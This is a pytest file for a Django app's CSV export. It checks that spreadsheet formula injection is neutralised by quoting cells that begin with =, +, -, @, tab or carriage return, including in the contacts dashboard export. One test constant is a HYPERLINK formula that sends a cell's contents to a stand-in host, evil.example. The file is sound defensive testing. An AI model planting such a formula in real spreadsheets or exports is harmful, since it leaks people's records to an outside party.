"""CSV exports neutralise formula injection (issue 10 §7): hearth.core.exports."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from hearth.core.exports import csv_writer, safe_cell
from hearth.people.models import Person

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open record")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-3"],
)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Ava Rivera", "2026-06-15", "", "a=b", "O'Neil", " =1", None, 0, -3, -2.5]
)
def test_plain_text_numbers_and_none_are_unchanged(value):
    assert safe_cell(value) == value


def test_negative_numbers_stay_numbers_but_an_infinite_one_is_text():
    assert safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_cell(float("-inf")) == "'-inf"


def test_the_writer_quotes_every_cell_of_every_row():
    stream = io.StringIO()
    out = csv_writer(stream)
    out.writerow(["name", "days"])
    out.writerows([[HYPERLINK, -4], ["Ann", 7]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["name", "days"], ["'" + HYPERLINK, "-4"], ["Ann", "7"]]


def test_the_contacts_csv_export_shows_a_stored_formula_as_text(
    client, supervisor, worker, removed, family
):
    Person.objects.filter(pk=family["child"].pk).update(first_name=HYPERLINK)
    client.force_login(supervisor.user)
    r = client.get(reverse("contacts_dashboard") + f"?worker={worker.pk}&format=csv")
    assert r.status_code == 200 and r["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(r.content.decode())))
    people = [row[1] for row in rows[1:]]
    assert f"'{HYPERLINK} Brook" in people
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
